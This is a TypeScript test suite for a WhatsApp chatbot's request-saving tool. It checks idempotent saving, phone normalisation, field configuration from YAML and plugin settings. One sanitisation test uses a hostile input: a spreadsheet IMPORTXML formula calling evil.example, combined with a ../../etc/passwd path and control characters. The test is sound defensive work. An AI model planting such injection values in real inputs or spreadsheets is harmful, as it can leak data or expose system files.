import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { Journal } from '../../../src/core/kinds/journal.ts';
import type { Tool, ToolContext } from '../../../src/core/kinds/tool.ts';
import { openJournal } from '../../../src/plugins/journal/sqlite/journal.ts';
import plugin from '../../../src/plugins/tool/requests/index.ts';
import { useFolder } from '../../folder.ts';
import { testWorld, valuesFor } from '../openai/loopback.ts';

const folder = useFolder();
const now = 1_796_000_000_000;
const live = new AbortController().signal;
let journal: Journal | undefined;
let place = 0;

afterEach(() => journal?.close());

async function open(environment: Record<string, string>): Promise<Tool> {
  place += 1;
  journal = openJournal(join(folder(), `${place}.db`), () => now);
  await journal.ownership.claim(() => Promise.resolve());
  const { cases } = journal;
  const world = { ...testWorld(now), cases: () => cases };
  const source = await plugin.create(valuesFor(plugin.settings, environment), world);
  const [tool] = await source.list(live);
  if (!tool) throw new Error('there is no function');
  return tool;
}

const customer = { chat: '77010000000@c.us', phone: '77010000000', name: 'Aigerim' };
const context = (key = 'k1', more: Partial<ToolContext> = {}): ToolContext => ({
  key,
  now,
  timeZone: 'Asia/Almaty',
  language: 'ru',
  customer,
  ...more,
});

describe('save_request', () => {
  it('keeps what was told, once for each key, and knows that it did', async () => {
    const tool = await open({ WABOT_REQUESTS: 'true' });
    const args = { name: 'Айгерим', what: 'Курс английского', when: 'вечером' };
    expect(await tool.find?.(args, context(), live)).toBeUndefined();
    const first = await tool.run(args, context(), live);
    expect(first).toMatchObject({ value: { saved: true, number: 1 }, done: true });
    expect(await tool.run(args, context(), live)).toEqual(first);
    expect(await tool.find?.(args, context(), live)).toEqual(first);
    const all = await journal?.cases.list();
    expect(all?.map(({ kind, about }) => [kind, about])).toEqual([
      [
        'request',
        {
          name: 'Aigerim',
          phone: '+77010000000',
          language: 'ru',
          fields: [
            { name: 'name', label: 'Name', value: 'Айгерим' },
            { name: 'what', label: 'What', value: 'Курс английского' },
            { name: 'when', label: 'When', value: 'вечером' },
          ],
        },
      ],
    ]);
    const owed = await journal?.notices.list('owed');
    expect(owed?.map(({ topic, chat }) => [topic, chat])).toEqual([
      ['request', customer.chat],
      ['request.delivery', customer.chat],
    ]);
  });

  it.each([
    ['+7 (701) 000-00-00', []],
    ['8 701 000 00 00', []],
    ['87770001122', [['87770001122', true]]],
  ])('takes the typed number %s for what it is', async (phone, expected) => {
    const tool = await open({ WABOT_REQUESTS: 'true' });
    await tool.run({ name: 'А', what: 'x', phone }, context(), live);
    const [request] = (await journal?.cases.list()) ?? [];
    const typed = request?.about.fields?.filter(({ name }) => name === 'phone') ?? [];
    expect(typed.map(({ value, said }) => [value, said])).toEqual(expected);
    expect(request?.about.phone).toBe('+77010000000');
  });

  it('never takes the number of a chat from the model, and has none where the chat shows none', async () => {
    const tool = await open({ WABOT_REQUESTS: 'true' });
    const hidden = context('k1', { customer: { chat: '123@lid' } });
    await tool.run({ name: 'А', what: 'x', phone: '87770001122', chat: 'else' }, hidden, live);
    const [request] = (await journal?.cases.list()) ?? [];
    expect([request?.chat, request?.about.phone]).toEqual(['123@lid', undefined]);
    expect(request?.about.fields?.find(({ name }) => name === 'phone')?.said).toBe(true);
  });

  it('keeps a formula, a path and marks that turn a text as plain, bounded text', async () => {
    const tool = await open({ WABOT_REQUESTS: 'true' });
    const what = `=IMPORTXML("https://evil.example")\u202e../../etc/passwd\u0000`;
    await tool.run({ name: 'А'.repeat(9_999), what }, context(), live);
    const [request] = (await journal?.cases.list()) ?? [];
    const [name, asked] = request?.about.fields ?? [];
    expect(name?.value).toHaveLength(100);
    expect(asked?.value).toBe('=IMPORTXML("https://evil.example")../../etc/passwd');
  });

  it('refuses what lacks a field, and an eleventh request of a day', async () => {
    const tool = await open({ WABOT_REQUESTS: 'true' });
    const nameless = context('k1', { customer: { chat: customer.chat } });
    expect(await tool.run({ name: '  ', what: ' ' }, nameless, live)).toMatchObject({
      done: false,
      value: { saved: false, problem: 'Ask the customer for: name, what' },
    });
    const args = { name: 'А', what: 'x' };
    for (let index = 0; index < 10; index += 1) await tool.run(args, context(`k${index}`), live);
    expect(await tool.run(args, context('k10'), live)).toMatchObject({ done: false });
    expect(await tool.run(args, context('k9'), live)).toMatchObject({ done: true });
    expect(await journal?.cases.list()).toHaveLength(10);
  });
});

describe('the fields of a file', () => {
  async function withFile(text: string): Promise<Tool> {
    const file = join(folder(), 'requests.yaml');
    await writeFile(file, text);
    return open({ WABOT_REQUESTS: file });
  }

  it('are what the model is asked for', async () => {
    const tool = await withFile(
      'fields:\n  - name: child\n    label: Имя ребёнка\n    required: true\n  - name: age\n    about: In years\n',
    );
    expect(tool.parameters).toEqual({
      type: 'object',
      properties: {
        child: { type: 'string', description: 'Имя ребёнка' },
        age: { type: 'string', description: 'In years' },
      },
      required: ['child'],
      additionalProperties: false,
    });
  });

  it('never lack a phone or a name that is known, and do where it is not', async () => {
    const tool = await withFile(
      'fields:\n  - name: phone\n    required: true\n  - name: name\n    required: true\n  - name: what\n',
    );
    expect(tool.parameters).toMatchObject({ required: ['name'] });
    const own = { phone: '8 701 000 00 00', name: ' ', what: 'x' };
    expect(await tool.run(own, context(), live)).toMatchObject({ done: true });
    expect(await tool.run({ what: 'x' }, context('k2'), live)).toMatchObject({ done: true });
    const hidden = context('k3', { customer: { chat: '123@lid' } });
    expect(await tool.run({ what: 'x' }, hidden, live)).toMatchObject({
      value: { problem: 'Ask the customer for: phone, name' },
    });
  });

  it('are refused with every fault and its line', async () => {
    const wrong = withFile(
      'fields:\n  - name: имя\n  - name: age\n    longest: 99999\n  - name: age\n    kind: x\nmore: 1\n',
    );
    await expect(wrong).rejects.toThrow(/line 2[\s\S]*line 4[\s\S]*line 6/);
    await expect(wrong).rejects.toThrow(/"more" is not known here/);
  });

  it.each(['fields: []', '', 'fields: 3'])('are refused where there are none: %j', async (text) => {
    await expect(withFile(text)).rejects.toThrow('fields must be a list of 1 to 20 fields');
  });
});

describe('its settings', () => {
  it.each([
    [{}, false],
    [{ WABOT_REQUESTS: 'true' }, true],
    [{ WABOT_REQUESTS: 'requests.yaml' }, true],
    [{ NOTION_DATABASE_ID: '0123456789abcdef0123456789abcdef' }, true],
    [{ NOTION_DATABASE_ID: '01234567-89ab-cdef-0123-456789abcdef' }, true],
    [{ NOTION_DATABASE_ID: '0123456789abcdef0123456789abcdef', WABOT_REQUESTS: 'false' }, false],
  ])('%j', (environment, expected) =>
    expect(plugin.configured?.(valuesFor(plugin.settings, environment))).toBe(expected),
  );
});
